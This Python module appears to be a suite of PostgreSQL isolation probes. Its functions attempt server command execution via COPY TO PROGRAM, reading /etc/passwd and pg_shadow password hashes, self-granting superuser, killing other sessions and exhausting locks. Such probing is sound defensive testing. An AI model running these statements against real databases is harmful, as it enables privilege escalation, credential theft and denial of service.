"""Attacks by way of the database. Each function returns whether it reached its target."""

import os
import re

import psycopg2

URL = os.environ.get("DATABASE_URL", "").replace("postgresql+psycopg2", "postgresql")


def run(statement, url=URL):
    connection = psycopg2.connect(url, connect_timeout=2)
    connection.autocommit = True
    try:
        with connection.cursor() as cursor:
            cursor.execute(statement)
            return cursor.fetchall() if cursor.description else []
    finally:
        connection.close()


def program_on_the_server():
    run("COPY (SELECT 1) TO PROGRAM 'id'")
    return True


def file_of_the_server_by_copying():
    run("CREATE TABLE loot (line text)")
    run("COPY loot FROM '/etc/passwd'")
    return True


def file_of_the_server():
    return bool(run("SELECT pg_read_file('/etc/passwd')"))


def folder_of_the_server():
    return bool(run("SELECT pg_ls_dir('/')"))


def file_of_the_server_as_an_object():
    return bool(run("SELECT lo_import('/etc/passwd')"))


def becoming_superuser():
    run("ALTER ROLE CURRENT_USER SUPERUSER")
    return True


def taking_the_role_of_the_server():
    run("SET ROLE postgres")
    return True


def role_of_ones_own():
    run("CREATE ROLE evil SUPERUSER LOGIN")
    return True


def database_of_ones_own():
    run("CREATE DATABASE evil")
    return True


def database_of_the_server():
    return bool(run("SELECT 1", re.sub(r"/[^/]+$", "/postgres", URL)))


def template_of_all_databases():
    return bool(run("SELECT 1", re.sub(r"/[^/]+$", "/template1", URL)))


def databases_of_others():
    names = [name for (name,) in run("SELECT datname FROM pg_database WHERE datname LIKE 'run%'")]
    mine = URL.rpartition("/")[2]
    return any(can_connect(name) for name in names if name.rpartition("_")[0] != mine.rpartition("_")[0])


def can_connect(name):
    try:
        return bool(run("SELECT 1", re.sub(r"/[^/]+$", f"/{name}", URL)))
    except psycopg2.Error:
        return False


def setting_of_the_server():
    run("ALTER SYSTEM SET listen_addresses = '*'")
    return True


def way_out_by_an_extension():
    run("CREATE EXTENSION dblink")
    return True


def untrusted_language():
    run("CREATE EXTENSION plpython3u")
    return True


def statements_of_others():
    rows = run("SELECT query FROM pg_stat_activity WHERE usename <> CURRENT_USER")
    return any(text and "insufficient" not in text for (text,) in rows)


def hashes_of_passwords():
    return bool(run("SELECT passwd FROM pg_shadow"))


def sessions_of_others():
    rows = run("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'postgres'")
    return any(done for (done,) in rows)


def locks_of_all_databases():
    """Keeps every lock that the server has. It is the last: whoever tries it is shut out."""
    connection = psycopg2.connect(URL, connect_timeout=2)
    connection.autocommit = True
    with connection.cursor() as cursor:
        try:
            cursor.execute("SELECT pg_advisory_lock(n) FROM generate_series(1, 1000000) n")
        except psycopg2.OperationalError:
            pass
        cursor.execute("SELECT pg_sleep(10)")
    return True
